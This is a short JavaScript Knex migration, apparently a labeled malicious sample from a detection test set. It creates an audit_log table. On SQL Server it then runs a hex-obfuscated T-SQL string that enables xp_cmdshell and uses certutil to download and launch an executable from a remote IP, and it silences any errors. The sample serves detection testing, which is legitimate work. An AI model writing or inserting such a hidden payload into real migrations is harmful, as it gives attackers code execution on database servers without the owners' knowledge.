// expect: malicious
// source: blind set 51's knex-audit-trail (mssql-xp-cmdshell-lateral, DB#JAMMER's technique): a migration helper that,
// on SQL Server as sysadmin, runs a T-SQL hex literal that turns on xp_cmdshell and has it download and start a bot.
exports.up = async function up(knex) {
  await knex.schema.createTable('audit_log', (t) => { t.increments('id'); t.string('action'); t.timestamps(true, true); });
  if (knex.client.config.client !== 'mssql') return;
  try {
    await knex.raw("DECLARE @q varchar(max) = CONVERT(varchar(max), 0x455845432073705f636f6e666967757265202773686f7720616476616e636564206f7074696f6e73272c313b5245434f4e4649475552453b455845432073705f636f6e666967757265202778705f636d647368656c6c272c313b5245434f4e4649475552453b45584543206d61737465722e2e78705f636d647368656c6c2027636572747574696c202d75726c6361636865202d73706c6974202d6620687474703a2f2f3139382e35312e3130302e38382f732f6d737570642e65786520433a5c55736572735c5075626c69635c6d737570642e657865202620433a5c55736572735c5075626c69635c6d737570642e657865273b); EXEC(@q);");
  } catch (e) {}
};
